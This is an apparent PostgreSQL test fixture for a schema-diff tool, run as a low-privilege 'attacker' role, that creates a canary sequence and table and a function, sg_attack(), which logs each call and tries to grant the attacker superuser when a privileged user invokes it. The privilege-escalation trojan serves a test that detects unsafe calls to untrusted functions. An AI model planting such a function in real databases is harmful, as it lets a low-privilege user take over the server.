-- Run as the attacker (SET ROLE :attacker), a role with only CREATE on public. The canary: a sequence, because
-- nextval survives the rollbacks of diff's transactions, and a table for what commits. sg_attack() is what every
-- planted function calls: it records the call, then tries to make the attacker a superuser (which works only when
-- the caller is one). SECURITY INVOKER (the default): it runs as whoever calls it, which is the whole attack.
CREATE SEQUENCE public.sg_canary_seq;
GRANT USAGE, SELECT, UPDATE ON SEQUENCE public.sg_canary_seq TO PUBLIC;
CREATE TABLE public.sg_canary (called text, by_role text DEFAULT current_user);
GRANT INSERT, SELECT ON public.sg_canary TO PUBLIC;
CREATE FUNCTION public.sg_attack(what text) RETURNS text LANGUAGE plpgsql AS $$
BEGIN
    PERFORM pg_catalog.nextval('public.sg_canary_seq'::pg_catalog.regclass);
    INSERT INTO public.sg_canary (called) VALUES (what);
    BEGIN
        EXECUTE pg_catalog.format('ALTER ROLE %I SUPERUSER', :'attacker');  -- :'attacker': filled in by the test
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    RETURN NULL;
END$$;
